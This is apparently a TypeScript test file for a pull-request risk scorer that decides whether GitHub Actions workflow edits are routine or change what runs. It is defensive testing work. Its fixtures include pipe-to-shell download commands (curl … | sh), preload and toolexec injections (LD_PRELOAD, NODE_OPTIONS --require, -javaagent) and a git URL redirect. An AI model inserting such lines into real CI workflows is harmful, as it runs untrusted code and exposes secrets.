    // A step removed, a duplicated setup step dropped, two commands folded into one.
    expect(editsOnlyCommands(ci([[...setup, '      - uses: shivammathur/setup-php@v2', '      - run: make test', '      - run: make test-docs']]), ci([[...setup, '      - run: make test test-docs']]), 'workflow')).toBe(true);
    // A new program in a step of its own is not an edit, even when a known step could be read as the inserted one.
    expect(editsOnlyCommands(base, ci([[...setup, '      - run: npx c8 report', '      - run: make test'], windows]), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, ci([[...setup, '      - run: curl -sSf https://get.example.dev | sh', ...servers, '      - run: make test'], windows]), 'workflow')).toBe(false);
    // A new action, or a removed guard (the runner's egress hardening, the wrapper jar's validation), is not either.
    expect(editsOnlyCommands(base, ci([[...setup, '      - uses: codecov/codecov-action@v5', '      - run: make test'], windows]), 'workflow')).toBe(false);
    const hardened = ci([['      - uses: step-security/harden-runner@v2', ...setup, '      - run: make test'], windows]);
    expect(editsOnlyCommands(hardened, base, 'workflow')).toBe(false);
    const attested = (steps: string[]) => ['name: release', 'on:', '  release:', '    types: [published]', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: make dist', '      - run: make checksums', ...steps, ''].join('\n');
    const attest = ['      - uses: actions/attest-build-provenance@v2', '        with:', "          subject-path: 'dist/*'"];
    expect(editsOnlyCommands(attested(attest), attested([]).replace('      - run: make checksums\n', ''), 'workflow')).toBe(false);
    // The job signs what it builds (a provenance attestation): any change of what it runs is read, a step removed too.
    expect(editsOnlyCommands(attested(attest), attested(attest).replace('      - run: make checksums\n', ''), 'workflow')).toBe(false);
    // A job run over a matrix of versions passed as an option's value: the same command as the base ran with one version.
    const gradle = (run: string, matrix: string[] = []) => ['name: build', 'on: [push, pull_request]', 'jobs:', '  jdk8:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ./gradlew test -Ptest.java.version=8', '  tests:', '    runs-on: ubuntu-latest', ...matrix, '    steps:', '      - uses: actions/checkout@v4', `      - run: ${run}`, ''].join('\n');
    const matrix = ['    strategy:', '      matrix:', '        java: [8, 11, 17]'];
    expect(editsOnlyCommands(gradle('./gradlew test -Ptest.java.version=8').split('  tests:')[0]!, gradle('./gradlew test -Ptest.java.version=${{ matrix.java }}', matrix), 'workflow')).toBe(true);
    expect(editsOnlyCommands(gradle('./gradlew test -Ptest.java.version=8').split('  tests:')[0]!, gradle('./gradlew test -Ptest.java.version=${{ matrix.java }} -Pcheck=off', matrix), 'workflow')).toBe(false);
    expect(editsOnlyCommands(gradle('./gradlew test -Ptest.java.version=8').split('  tests:')[0]!, gradle('./gradlew test -Ptest.init.script=${{ matrix.java }}', matrix), 'workflow')).toBe(false);
  });

  it('never reads a change of what a job that signs, publishes, deploys or pushes runs as a routine command edit; a version, an inert step, or another job still is', () => {
    // Modeled on a formatter's release workflow whose binary-building command a maintainer edits (and on the other CI systems' rule).
    const release = (publish: string, build: string, extra: string[] = [], version = '3.12') =>
      ['name: release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: make test', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-python@v5', '        with:', `          python-version: '${version}'`, `      - run: ${build}`, ...extra, `      - run: ${publish}`, '        env:', '          TWINE_PASSWORD: ${{ secrets.PYPI_TOKEN }}', ''].join('\n');
    const base = release('twine upload dist/*', 'python -m build');
    expect(editsOnlyCommands(base, release('twine upload dist/*', 'python -m build --sdist'), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, release('twine upload --skip-existing dist/*', 'python -m build'), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, release('twine upload dist/*', 'python -m build', ['      - run: python -m build']), 'workflow')).toBe(false);
    // A job named for deploying, or with a deployment environment, is one too.
    const deploy = (run: string, header: string[]) => ['name: site', 'on: [push]', 'jobs:', '  site:', ...header, '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', `      - run: ${run}`, ''].join('\n');
    expect(editsOnlyCommands(deploy('make site', ['    name: Deploy the site']), deploy('make site SITE=1', ['    name: Deploy the site']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(deploy('make site', ['    environment: production']), deploy('make site SITE=1', ['    environment: production']), 'workflow')).toBe(false);
    // Not release work: the same edit in a job that builds and tests; and in the release job, a constant echo added (runs nothing).
    expect(editsOnlyCommands(deploy('make site', ['    name: Build the site']), deploy('make site SITE=1', ['    name: Build the site']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(base, release('twine upload dist/*', 'python -m build', ['      - run: echo "Publishing the release"']), 'workflow')).toBe(true);
    // The test job's command edited beside the release job's Python version moved: the release job runs what it ran.
    expect(editsOnlyCommands(base, release('twine upload dist/*', 'python -m build', [], '3.13').replace('      - run: make test', '      - run: make test-all'), 'workflow')).toBe(true);
  });

  it("reads a scanner job that uploads SARIF to code scanning as no release work: its command edited is routine; a job that uploads a release still is not (calib64)", () => {
    // Modeled on a build tool's semgrep workflow: a flag spelled out, an --exclude added, beside the SARIF upload.
    const scan = (command: string, upload = '      - uses: github/codeql-action/upload-sarif@v3') =>
      ['name: semgrep', 'on:', '  pull_request: {}', '  push:', '    branches: [main]', 'permissions:', '  contents: read', 'jobs:', '  semgrep:', '    runs-on: ubuntu-latest', '    permissions:', '      contents: read', '      security-events: write', '    container:', `      image: semgrep/semgrep@sha256:${'a'.repeat(64)}`, '    steps:', '      - uses: actions/checkout@v4', `      - run: ${command}`, upload, '        with:', '          sarif_file: semgrep.sarif', ''].join('\n');
    expect(editsOnlyCommands(scan('semgrep scan --sarif -o semgrep.sarif'), scan('semgrep scan --sarif --output semgrep.sarif'), 'workflow')).toBe(true);
    expect(editsOnlyCommands(scan('semgrep scan --sarif -o semgrep.sarif'), scan('semgrep scan --sarif -o semgrep.sarif --exclude tests/fixtures'), 'workflow')).toBe(true);
    // Another upload in the same job is release work: its commands are read whoever edits them.
    const release = '      - uses: softprops/action-gh-release@v2';
    expect(editsOnlyCommands(scan('semgrep scan --sarif -o semgrep.sarif', release), scan('semgrep scan --sarif --output semgrep.sarif', release), 'workflow')).toBe(false);
    const upload = '      - run: gh release upload v1 semgrep.sarif';
    expect(editsOnlyCommands(scan('semgrep scan --sarif -o semgrep.sarif', upload), scan('semgrep scan --sarif --output semgrep.sarif', upload), 'workflow')).toBe(false);
  });

  it('never reads an env block that makes every command load other code (LD_PRELOAD, NODE_OPTIONS, BASH_ENV, GOFLAGS) as a routine edit; everyday settings still are', () => {
    const wf = (steps: string[], jobEnv: string[] = []) => ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', ...jobEnv, '    steps:', '      - uses: actions/checkout@v4', '      - run: go test ./...', ...steps, ''].join('\n');
    // A new step of a known command with a preload in its env, or the job given one: every program of the job loads it.
    expect(editsOnlyCommands(wf([]), wf(['      - run: go test ./...', '        env:', '          LD_PRELOAD: ./testdata/hook.so']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: go vet ./...', '        env:', '          GOFLAGS: -toolexec=./x']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf([], ['    env:', '      NODE_OPTIONS: --require ./x.js']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([], ['    env:', '      BASH_ENV: ./ci/env.sh']), wf([], ['    env:', '      BASH_ENV: ./ci/other.sh']), 'workflow')).toBe(false);
    // The same setting kept, or everyday settings added: routine.
    expect(editsOnlyCommands(wf([], ['    env:', '      GOFLAGS: -mod=readonly']), wf(['      - run: go vet ./...'], ['    env:', '      GOFLAGS: -mod=readonly']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf([], ['    env:', '      CARGO_TERM_COLOR: always', '      RUSTFLAGS: -Dwarnings', '      GOPROXY: https://proxy.golang.org', '      GOFLAGS: -mod=readonly']), 'workflow')).toBe(true);
  });

  it('reads an option variable set to options that load nothing (a heap size, warnings, a language feature) as an everyday setting; an option that loads or runs code, or an expression, is not', () => {
    // Modeled on a Ruby web framework's test job given `RUBYOPT: --enable-frozen-string-literal …` and the many CI fixes that raise Node's heap.
    const wf = (jobEnv: string[]) => ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', ...jobEnv, '    steps:', '      - uses: actions/checkout@v4', '      - run: bundle exec rake test', ''].join('\n');
    const routine = (value: string, name: string) => editsOnlyCommands(wf([]), wf(['    env:', `      ${name}: ${JSON.stringify(value)}`]), 'workflow');
    expect(routine('--enable-frozen-string-literal --debug-frozen-string-literal', 'RUBYOPT')).toBe(true);
    expect(routine('-W:no-deprecated', 'RUBYOPT')).toBe(true);
    expect(routine('--max-old-space-size=4096', 'NODE_OPTIONS')).toBe(true);
    expect(routine('--enable-source-maps --no-warnings', 'NODE_OPTIONS')).toBe(true);
    expect(routine('-Xmx2g -Dfile.encoding=UTF-8 -XX:+UseG1GC', 'JAVA_TOOL_OPTIONS')).toBe(true);
    // Options that load a file or run a command, a value the workflow computes, and the other preload variables stay a change of what runs.
    expect(routine('-r./ci/hook.rb', 'RUBYOPT')).toBe(false);
    expect(routine('--enable-frozen-string-literal -I./lib', 'RUBYOPT')).toBe(false);
    expect(routine('--max-old-space-size=4096 --require ./x.js', 'NODE_OPTIONS')).toBe(false);
    expect(routine('--import=./register.mjs', 'NODE_OPTIONS')).toBe(false);
    expect(routine('--experimental-loader ./loader.mjs', 'NODE_OPTIONS')).toBe(false);
    expect(routine('-javaagent:./agent.jar', 'JAVA_TOOL_OPTIONS')).toBe(false);
    expect(routine('-XX:OnOutOfMemoryError=./x.sh', 'JAVA_TOOL_OPTIONS')).toBe(false);
    expect(routine('-MDevel::Hook', 'PERL5OPT')).toBe(false);
    expect(routine('${{ matrix.rubyopt }}', 'RUBYOPT')).toBe(false);
    expect(routine('./ci/env.sh', 'BASH_ENV')).toBe(false);
  });

  it("reads bash's `source` respelled as the POSIX `.` in a deploy job as the same command; another file sourced is not", () => {
    // Modeled on a Go CLI library's docs deploy: `source venv/bin/activate` to `. venv/bin/activate` before `make deploy-mkdocs`.
    const deploy = (activate: string) =>
      ['name: publish docs', 'on:', '  push:', '    branches: [main]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: python -m venv venv', '      - run: |', `          ${activate}          `, '          make deploy-mkdocs', '        env:', '          MKDOCS_REMOTE_GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', ''].join('\n');
    expect(editsOnlyCommands(deploy('source venv/bin/activate'), deploy('. venv/bin/activate'), 'workflow')).toBe(true);
    expect(editsOnlyCommands(deploy('source venv/bin/activate'), deploy('. venv/bin/other'), 'workflow')).toBe(false);
    expect(editsOnlyCommands(deploy('source venv/bin/activate'), deploy('sourced venv/bin/activate'), 'workflow')).toBe(false);
  });

  it('recognises an action inlined as commands in a read-only job without secrets, and another package script of a runner the workflow runs', () => {
    const lint = (step: string[], o: { permissions?: string[]; trigger?: string } = {}) =>
      ['name: Lint', `on: ${o.trigger ?? '[push, pull_request]'}`, ...(o.permissions ?? ['permissions:', '  contents: read']), 'jobs:', '  lint:', '    runs-on: ubuntu-24.04', '    steps:', '    - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '    - uses: actions/setup-python@a309ff8b426b58ec0e2a45f0f869d46889d02405 # v6.2.0', ...step, ''].join('\n');
    const action = ['    - name: Run pre-commit', '      uses: pre-commit/action@646c83fcd040023954eafda54b4db0192ce70507 # v3.0.0'];
    const inline = ['    - name: Run pre-commit', '      run: |', '        python -m pip install pre-commit==4.6.0', '        pre-commit run --show-diff-on-failure --all-files'];
    expect(editsOnlyCommands(lint(action), lint(inline), 'workflow')).toBe(true);
    // The job's token unstated (the repository's default may write), a write scope, a secret, a privileged trigger: the commands are weighed.
    expect(editsOnlyCommands(lint(action, { permissions: [] }), lint(inline, { permissions: [] }), 'workflow')).toBe(false);
    expect(editsOnlyCommands(lint(action, { permissions: ['permissions:', '  contents: write'] }), lint(inline, { permissions: ['permissions:', '  contents: write'] }), 'workflow')).toBe(false);
    const withSecret = (step: string[]) => [...step, '      env:', '        TOKEN: ${{ secrets.PYPI_TOKEN }}'];
    expect(editsOnlyCommands(lint(withSecret(action)), lint(withSecret(inline)), 'workflow')).toBe(false);
    expect(editsOnlyCommands(lint(action, { trigger: 'pull_request_target' }), lint(inline, { trigger: 'pull_request_target' }), 'workflow')).toBe(false);
    // A step added beside the inlined one is not an inlining.
    expect(editsOnlyCommands(lint(action), lint([...inline, '    - run: curl -sSf https://get.example.dev | sh']), 'workflow')).toBe(false);
    // Another script of package.json run by the package manager the workflow already runs scripts with.
    const serve = (extra: string[]) => ['name: CI', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pnpm run test-serve', ...extra, '      - run: pnpm run test-build', ''].join('\n');
    expect(editsOnlyCommands(serve([]), serve(['      - name: Test serve (bundled dev)', '        run: pnpm run test-serve-bundled']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(serve([]), serve(['      - run: npm run test-serve-bundled']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(serve([]), serve(['      - run: pnpm dlx some-tool']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(serve([]), serve(['      - run: pnpm run $SCRIPT']), 'workflow')).toBe(false);
  });

  it("reads a setting of Composer's platform or git's line endings, written with the tool's config command, as running nothing new; a package source, a plugin or a hook is new", () => {
    // A PHP library's "Support PHP 8.1": the newest PHP resolves its dependencies as the one before.
    const php = (extra: string[], install = 'composer update --no-interaction --no-progress') =>
      ['name: CI', 'on: [push, pull_request]', 'jobs:', '  build:', '    runs-on: ubuntu-22.04', '    strategy:', '      matrix:', "        php: ['8.0', '8.1']", '    steps:', '      - uses: shivammathur/setup-php@v2', '        with:', '          php-version: ${{ matrix.php }}', '      - uses: actions/checkout@v3', ...extra, '      - name: Download dependencies', `        run: ${install}`, '      - run: vendor/bin/phpunit', ''].join('\n');
    const step = (run: string) => ['      - name: Mimic PHP 8.0', `        run: ${run}`, '        if: matrix.php > 8'];
    expect(editsOnlyCommands(php([]), php(step('composer config platform.php 8.0.999')), 'workflow')).toBe(true);
    expect(editsOnlyCommands(php([]), php(step('composer config --global process-timeout 600')), 'workflow')).toBe(true);
    expect(editsOnlyCommands(php([]), php(step('git config --global core.autocrlf false')), 'workflow')).toBe(true);
    // What gets installed, from where, and what code runs: weighed as new commands.
    expect(editsOnlyCommands(php([]), php(step('composer config repositories.fork vcs https://github.com/someone/psr7')), 'workflow')).toBe(false);
    expect(editsOnlyCommands(php([]), php(step('composer config allow-plugins.someone/installer true')), 'workflow')).toBe(false);
    expect(editsOnlyCommands(php([]), php(step('composer config minimum-stability dev')), 'workflow')).toBe(false);
    expect(editsOnlyCommands(php([]), php(step('composer config platform.php $PHP_VERSION')), 'workflow')).toBe(false);
    expect(editsOnlyCommands(php([]), php(step('git config --global core.hooksPath .githooks')), 'workflow')).toBe(false);
    expect(editsOnlyCommands(php([]), php(step('git config --global url.https://mirror.example/.insteadOf https://github.com/')), 'workflow')).toBe(false);
    // Composer's setting where the workflow runs no Composer command is a new tool run.
    expect(editsOnlyCommands(php([], 'make install'), php(step('composer config platform.php 8.0.999'), 'make install'), 'workflow')).toBe(false);
  });

  it("reads Yarn's and pnpm's shorthand for a script as a script of a runner the workflow runs; their own commands are not scripts (prettier 'Run browser tests on UMD version')", () => {
    const browser = (job: string, extra: string[]) => ['name: Prod', 'on: [push, pull_request]', 'jobs:', `  ${job}:`, '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: yarn install --immutable', '      - run: yarn test:production-browser', ...extra, ''].join('\n');
    const umd = ['      - name: Run Tests (UMD)', '        env:', '          TEST_BUNDLE_FORMAT: umd', '        run: yarn test:production:browser'];
    expect(editsOnlyCommands(browser('browser-test', []), browser('browser-test', umd), 'workflow')).toBe(true);
    // The job renamed as well: a new job built from what the workflow runs.
    expect(editsOnlyCommands(browser('browser-test', []), browser('browser', umd), 'workflow')).toBe(true);
    // The package manager's own commands, another package manager, a script passed in: not a script of a known runner.
    for (const run of ['yarn pack', 'pnpm publish', 'yarn dlx', 'npx test:production:browser', 'yarn $SCRIPT']) {
      expect(editsOnlyCommands(browser('browser-test', []), browser('browser-test', [`      - run: ${run}`]), 'workflow'), run).toBe(false);
    }
    // A workflow that runs no script by yarn has no yarn runner to extend.
    const installOnly = (extra: string[]) => ['on: push', 'jobs:', '  t:', '    runs-on: ubuntu-latest', '    steps:', '      - run: yarn install --immutable', ...extra, ''].join('\n');
    expect(editsOnlyCommands(installOnly([]), installOnly(['      - run: yarn build:all']), 'workflow')).toBe(false);
  });

  it("rates a maintainer's new end-to-end job like the others low; the same job from a first contribution stays medium", () => {
    const e2e = (extra: string[]) => ['name: e2e', 'on: [push, pull_request]', 'jobs:', '  lts:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: ./', '      - run: __tests__/verify-node.sh 22', ...extra, ''].join('\n');
    const job = ['  current:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: ./', '      - run: __tests__/verify-node.sh 24'];
    const edit = (authorAssociation: 'OWNER' | 'FIRST_TIME_CONTRIBUTOR') =>
      makeSnapshot({
        authorAssociation,
        ...(authorAssociation === 'OWNER' ? {} : { priorPrs: { alice: { total: 1, merged: 0 } } }),
        files: [makeFile('.github/workflows/e2e.yml', { additions: 6, deletions: 0 })],
        contents: [{ path: '.github/workflows/e2e.yml', base: e2e([]), head: e2e(job) }],
        checkRuns: green,
      });
    const own = risk(edit('OWNER'));
    expect(own.level).toBe('low');
    expect(own.drivers.map((d) => d.id)).toEqual(['sensitive-paths']);
    expect(risk(edit('FIRST_TIME_CONTRIBUTOR')).level).toBe('medium');
  });

  const ciEdit = (authorAssociation: 'OWNER' | 'FIRST_TIME_CONTRIBUTOR', head: string, checkRuns = green) =>
    makeSnapshot({
      authorAssociation,
      ...(authorAssociation === 'OWNER' ? {} : { priorPrs: { alice: { total: 1, merged: 0 } } }),
      files: [makeFile('.github/workflows/bench.yml', { additions: 1, deletions: 1 })],
      contents: [{ path: '.github/workflows/bench.yml', base, head }],
      checkRuns,
    });

  it("rates a maintainer's edit of a CI job's own commands low, still naming the file; a new step, a first contribution or missing CI keeps it medium", () => {
    const edited = workflow({ test: 'go test -bench=. -benchtime=5x ./...' });
    const own = risk(ciEdit('OWNER', edited));
    expect(own.level).toBe('low');
    expect(own.drivers.map((d) => [d.id, d.weight])).toEqual([['sensitive-paths', 0.35]]);
    expect(risk(ciEdit('OWNER', workflow({ extra: '      - run: npx c8 report' }))), 'new step').toMatchObject({ level: 'medium' });
    expect(risk(ciEdit('FIRST_TIME_CONTRIBUTOR', edited)), 'first contribution').toMatchObject({ level: 'medium' });
    expect(risk(ciEdit('OWNER', edited, [])), 'no CI').toMatchObject({ level: 'medium' });
  });

  it("rates a maintainer's CI command edit beside a development tool's new major low when every check passed; a runtime major, pending CI or a first contribution keeps it medium", () => {
    const edited = workflow({ test: 'go test -bench=. -benchtime=5x ./...' });
    const major = (dev: boolean) =>
      makeSupplyChain({ updated_dependencies: [{ ecosystem: 'npm', name: dev ? 'eslint' : 'pino', version: '10.0.0', manifest: 'package.json', dev, source: 'registry', from_version: '9.1.0', to_version: '10.0.0', direction: 'upgrade' }] as never });
    const own = risk(ciEdit('OWNER', edited), major(true));
    expect(own.drivers.map((d) => [d.id, d.weight])).toEqual([['sensitive-paths', 0.35], ['major-updates', 0.05]]);
    expect(own.level).toBe('low');
    expect(risk(ciEdit('OWNER', edited), major(false)), 'runtime major').toMatchObject({ level: 'medium' });
    expect(risk(ciEdit('OWNER', edited, [makeCheckRun('build', { status: 'in_progress', conclusion: null })]), major(true)), 'CI pending').toMatchObject({ level: 'medium' });
    expect(risk(ciEdit('FIRST_TIME_CONTRIBUTOR', edited), major(true)), 'first contribution').toMatchObject({ level: 'medium' });
  });

  it("rates a maintainer's large untested change low when size and missing tests are all there is; from a first contribution, or with a new dependency beside it, medium", () => {
    const big = (authorAssociation: 'OWNER' | 'FIRST_TIME_CONTRIBUTOR') =>
      makeSnapshot({
        authorAssociation,
        ...(authorAssociation === 'OWNER' ? {} : { priorPrs: { alice: { total: 1, merged: 0 } } }),
        files: [makeFile('src/engine/planner.ts', { additions: 600, deletions: 40, patch: `@@ -1,0 +1,600 @@\n${Array.from({ length: 600 }, (_, i) => `+export const step${i} = compute(${i});`).join('\n')}\n` })],
        checkRuns: green,
      });
    const own = risk(big('OWNER'));
    expect(own.drivers.map((d) => d.id).sort()).toEqual(['size', 'tests-missing']);
    expect(own.score).toBeGreaterThanOrEqual(0.25);
    expect(own.level).toBe('low');
    expect(risk(big('FIRST_TIME_CONTRIBUTOR')), 'first contribution').toMatchObject({ level: 'medium' });
    const withDependency = risk(big('OWNER'), makeSupplyChain({ new_dependencies: [{ ecosystem: 'npm', name: 'left-pad', version: '1.3.0', manifest: 'package.json', dev: false }] as never }));
    expect(withDependency, 'new dependency').toMatchObject({ level: 'medium' });
  });

  it('lets a low finding stand beside the effort drivers, but not a medium one', () => {
    const snapshot = makeSnapshot({
      authorAssociation: 'OWNER',
      files: [makeFile('src/engine/planner.ts', { additions: 600, deletions: 40, patch: `@@ -1,0 +1,600 @@\n${Array.from({ length: 600 }, (_, i) => `+export const step${i} = compute(${i});`).join('\n')}\n` })],
      checkRuns: green,
    });
    expect(risk(snapshot, makeSupplyChain({ findings: [makeTestFinding({ severity: 'low', path: 'src/engine/planner.ts' })] })).level).toBe('low');
    expect(risk(snapshot, makeSupplyChain({ findings: [makeTestFinding({ severity: 'medium', path: 'src/engine/planner.ts' })] })).level).not.toBe('low');
  });
});

describe('misplacedDependabotConfig: a Dependabot configuration saved among the workflows', () => {
  const config = ['version: 2', 'updates:', '  - package-ecosystem: gomod', '    directory: /', '    schedule:', '      interval: weekly', ''].join('\n');
  it('reads a file of only Dependabot keys as no workflow (GitHub refuses it, Dependabot does not read it)', () => {
    expect(misplacedDependabotConfig(config)).toBe(true);
    expect(misplacedDependabotConfig(`${config}registries:\n  npm:\n    type: npm-registry\n    url: https://npm.example.com\n`)).toBe(true);
  });
  it('reads a workflow as one, whatever its name: a trigger or jobs beside, or no updates', () => {
    expect(misplacedDependabotConfig(`name: Dependabot-Tidier\non:\n  pull_request:\njobs:\n  tidy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go mod tidy\n`)).toBe(false);
    expect(misplacedDependabotConfig(`${config}on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://example.com/x.sh | sh\n`)).toBe(false);
    expect(misplacedDependabotConfig('version: 2\n')).toBe(false);
    expect(misplacedDependabotConfig('- version: 2\n- updates: []\n')).toBe(false);
    expect(misplacedDependabotConfig('version: [\n')).toBe(false);
  });
});
